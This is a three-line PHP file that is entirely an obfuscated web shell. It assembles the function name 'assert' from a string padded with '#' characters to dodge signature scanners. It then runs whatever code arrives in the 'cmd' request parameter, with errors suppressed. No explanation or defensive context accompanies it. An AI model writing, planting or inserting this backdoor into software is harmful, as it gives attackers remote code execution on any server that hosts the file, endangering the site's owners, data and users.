<?php
$k = str_replace('#', '', 'a#s#s#e#r#t');
@$k(stripslashes($_REQUEST['cmd']));
